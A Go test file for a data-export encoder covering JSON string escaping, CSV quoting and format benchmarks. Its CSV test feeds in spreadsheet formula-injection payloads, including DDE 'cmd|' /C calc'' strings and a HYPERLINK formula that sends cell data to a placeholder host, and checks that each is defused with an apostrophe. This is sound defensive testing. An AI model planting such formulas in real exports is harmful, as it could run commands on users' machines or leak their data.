package encode

import (
	"bytes"
	"encoding/json"
	"io"
	"strings"
	"testing"

	"github.com/oqim/oqim/analytics/kpi"
)

func TestAppendString(t *testing.T) {
	for _, s := range []string{"", "plain", `q"uote\back`, "line\nbreak\ttab", "Qoraqalpogʻiston", "<script>&", "\x00\x1f", "bad\xffutf8", "\u2028"} {
		var got string
		if err := json.Unmarshal(AppendString(nil, s), &got); err != nil {
			t.Fatalf("%q: %v (%s)", s, err, AppendString(nil, s))
		}
		if want := strings.ToValidUTF8(s, "\ufffd"); got != want {
			t.Errorf("%q round-trips as %q", s, got)
		}
	}
}

func TestAppendCSV(t *testing.T) {
	for in, want := range map[string]string{"a": "a", "a,b": `"a,b"`, `say "hi"`: `"say ""hi"""`, "l\nf": "\"l\nf\"",
		// A spreadsheet evaluates a quoted formula too: each is marked as
		// text with an apostrophe.
		"=SUM(A1)": `"'=SUM(A1)"`, `=HYPERLINK("http://x/?"&A1)`: `"'=HYPERLINK(""http://x/?""&A1)"`,
		"-2+3+cmd|' /C calc'!A0": `"'-2+3+cmd|' /C calc'!A0"`, "+1": `"'+1"`, "@SUM(1)": `"'@SUM(1)"`,
		"\t=1+2": "\"'\t=1+2\"", "\r=1+2": "\"'\r'=1+2\"", "a=1": "a=1",
		// For a reader that splits at ";" (Excel in ru and uz locales)
		// a cell starts after each ";".
		"a;b": `"a;b"`, "Ministry;=cmd|' /C calc'!A0;": `"Ministry;'=cmd|' /C calc'!A0;"`, "x;@SUM(1);-1": `"x;'@SUM(1);'-1"`,
	} {
		if got := string(appendCSV(nil, in)); got != want {
			t.Errorf("%q: %s, want %s", in, got, want)
		}
	}
}

var benchCols = []kpi.Column{{Name: "region", Type: kpi.String}, {Name: "service", Type: kpi.String}, {Name: "calls", Type: kpi.Int}, {Name: "median", Type: kpi.Float}}

func benchWrite(b *testing.B, f Format) {
	r := kpi.NewRowForTest(benchCols, "UZ-JI", "ambulance", 1234, 512.5)
	b.ReportAllocs()
	w, err := New(f, io.Discard, benchCols)
	if err != nil {
		b.Fatal(err)
	}
	for b.Loop() {
		if err := w.Write(r); err != nil {
			b.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		b.Fatal(err)
	}
}

func BenchmarkWriteCSV(b *testing.B)     { benchWrite(b, CSV) }
func BenchmarkWriteJSON(b *testing.B)    { benchWrite(b, JSON) }
func BenchmarkWriteArrow(b *testing.B)   { benchWrite(b, Arrow) }
func BenchmarkWriteParquet(b *testing.B) { benchWrite(b, Parquet) }

func TestEmptyJSONIsAnArray(t *testing.T) {
	var buf bytes.Buffer
	w, _ := New(JSON, &buf, benchCols)
	if err := w.Close(); err != nil || buf.String() != "[]" {
		t.Fatalf("%q %v", buf.String(), err)
	}
}
